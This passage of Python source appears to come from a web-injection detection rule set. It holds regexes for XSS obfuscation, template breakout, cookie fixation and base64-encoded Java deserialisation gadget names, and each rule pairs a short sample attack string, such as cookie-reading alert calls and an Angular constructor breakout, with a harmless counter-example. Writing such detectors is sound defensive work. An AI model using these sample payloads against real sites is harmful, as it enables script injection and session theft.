        r"location\s*=)|\bwindow\s*\.\s*location\b|\blocation\s*\.\s*(?:href|hash)\s*=|"
        r"\bstring\s*\.\s*fromcharcode\s*\(|\batob\s*\(\s*['\"]|\beval\s*\(\s*(?:atob|"
        r"unescape|string|location|name|document)",
        '";alert(1);//',
        'say "hello"; then',
    ),
    Rule(
        "xss-js-obfuscation",
        "xss",
        ANYWHERE,
        r"\b(?:alert|confirm|prompt)\s*(?:\.\s*(?:call|apply|bind)\s*\(|\?\.\s*[(`])|"
        r"\(\s*(?:alert|confirm|prompt|eval)\s*\)\s*[(`]|"
        r"\bdocument\s*\[\s*['\"`](?:cookie|domain|write|location)|"
        r"\(\s*!\s*\[\s*\]\s*\+?\s*\[\s*\]\s*\)|!\+\[\]|\+!!\[\]|\[\]\[\(!\[\]|"
        r"!\s*!\s*\[\s*\]|\[\s*\+?\s*!\s*\+?\s*\[\s*\]\s*\]|"
        r"\b(?:window|self|top|parent|frames|globalthis|this)\s*(?:/\*.*?\*/\s*)*\[\s*(?:/\*.*?\*/\s*)*"
        r"['\"`](?:alert|eval|prompt|confirm|document|location|cookie|\$|\\x|atob|fetch|"
        r"constructor|settimeout|setinterval|open)|"
        r"\bdocument\s*(?:/\*.*?\*/\s*)+\.|\bdocument\s*\.\s*(?:/\*.*?\*/\s*)+cookie|"
        r"\(\s*document\s*(?:/\*.*?\*/\s*)*\)\s*\[|\$\{\s*alert\s*\}|"
        r"^\s*(?:alert|prompt|confirm)\s*(?:\(\s*(?:\d+|['\"`][^'\"`]{0,40}['\"`]|document\.\w+)?"
        r"\s*\)|`[^`]{0,40}`)\s*;?\s*$|(?:^|[\s+])ADw-\s*/?\s*(?:script|img|svg|iframe|a\s|body)|"
        r"<\?import\b|\bdocument\s*\.\s*(?:body|queryselector\w*|getelementby\w+|"
        r"createelement)\b[^;]{0,80}\.\s*(?:innerhtml|outerhtml|textcontent|appendchild|"
        r"insertadjacenthtml)\b",
        "self['alert'](document.cookie)",
        "self-service portal",
    ),
    Rule(
        "xss-template-breakout",
        "xss",
        ANYWHERE,
        r"\{\{\s*constructor\s*\.\s*constructor\s*\(|\$eval\s*\(|\{\{[^}]*\$on\.|"
        r"<\s*[a-z]+[^>]*\bng-[a-z-]+\s*=\s*['\"]?[^'\">]*\(",
        "{{constructor.constructor('alert(1)')()}}",
        "{{ constructor }}",
    ),
    Rule(
        "xss-cookie-fixation",
        "xss",
        ANYWHERE,
        r"\.cookie\s*=|http-equiv\s*=\s*['\"]?set-cookie|;\s*expires\s*=\s*\w{3},|"
        r"\bdomain\s*=\s*\.[\w-]+\.[\w.]+\s*['\";]",
        'document.cookie="sid=1"',
        "cookie recipe",
    ),
)


def _base64_forms(word: str) -> list[str]:
    """The part of `word`'s base64 spelling that does not depend on its neighbours.

    One form per alignment of the word in the 3-byte groups of base64.
    """
    forms = []
    for shift, skip in ((0, 0), (1, 2), (2, 3)):
        encoded = base64.b64encode(b"\x00" * shift + word.encode()).decode()
        end = ((shift + len(word.encode())) * 8) // 6
        forms.append(encoded[skip:end])
    return forms


#: Java deserialisation gadget names, also looked for in their base64 spelling
_JAVA_GADGETS: Final = (
    "InvokerTransformer", "ChainedTransformer", "ConstantTransformer",
    "InstantiateTransformer", "InstantiateFactory", "PrototypeCloneFactory",
    "PrototypeSerializationFactory", "CloneTransformer", "ForClosure", "WhileClosure",
    "TemplatesImpl", "java.lang.Runtime", "ProcessBuilder", "getRuntime",
    "java.lang.reflect", "javax.management", "BadAttributeValueExpException",
    "XMLDecoder", "java.beans", "getProperty", "FileWriter", "URLClassLoader",
    "JdbcRowSetImpl", "runtime",
)  # fmt: skip


def _base64_rule() -> Rule:
    forms: list[str] = []
    for word in _JAVA_GADGETS:
        forms.extend(f for f in _base64_forms(word) if len(f) >= 8)
        forms.extend(f for f in _base64_forms(word.lower()) if len(f) >= 8)
    alternatives = "|".join(sorted(set(forms), key=len, reverse=True))
    return Rule(
        "rce-java-gadget-base64",
        "rce",
        VALUES | NAMES,
        f"(?-i:{alternatives})",
        base64.b64encode(b"InvokerTransformer").decode(),
        "dGhpcyBpcyBmaW5lLCBub3RoaW5nIHRvIHNlZQ==",
    )


#: rules whose matches are ordinary content in documents: tutorials quote SQL, shell
#: sessions and source code; an injection is a fragment, not a page of text
_CODE_LIKE: Final = frozenset(
    {
        "ptrav-unix-file", "ptrav-windows-file", "rce-shell-separator", "rce-shell-short",
        "rce-shell-command-args", "rce-command-substitution", "rce-shell-evasion",
        "rce-windows-cmd", "rce-windows-script", "rce-powershell", "rce-shell-constructs",
        "rce-command-line", "rce-unix-binary", "rce-php-tag", "rce-php-function",
        "rce-php-builtin-call", "rce-php-variable-call", "rce-php-superglobal",
        "rce-php-callable", "rce-php-config", "rce-node-injection", "rce-prototype-pollution",
        "rce-python-injection", "rce-ruby-injection", "rce-perl-injection",
        "rce-java-class-value", "rce-java-runtime", "rce-java-el", "rce-reverse-shell",
        "ssti-expression", "ssti-engine-syntax", "ssti-object-walk", "nosqli-where-js",
        "nosqli-operator-json", "ldapi-filter", "crlf-response-splitting",
        "mail-injection-header", "mail-injection-command", "xss-js-breakout",
        "xss-cookie-fixation", "xss-template-breakout", "rfi-exotic-scheme",
        "xss-js-obfuscation", "rce-php-exec-evasion", "rce-node-infinite-loop",
        "rce-leading-separator", "rce-editor-shell-escape", "rce-windows-batch",
        "rce-glob-path", "rce-shell-definitions", "rce-sqlite-dot-command",
        "rce-empty-substitution", "rce-php-dynamic-name", "rce-shell-expansion",
        "rce-php-call-probe", "rce-command-head", "ssti-template-statement",
        "crlf-body-header-injection", "xxe-external-schema", "rce-php-string-code",
        "rce-node-iife-breakout", "rce-decode-pipeline",
    }
)  # fmt: skip


def _in_documents(rule: Rule) -> Rule:
    if rule.id in _CODE_LIKE or rule.attack_type == "sqli":
        return replace(rule, in_documents=False)
    return rule


RULES: Final[tuple[Rule, ...]] = tuple(_in_documents(r) for r in (*_TEXT_RULES, _base64_rule()))
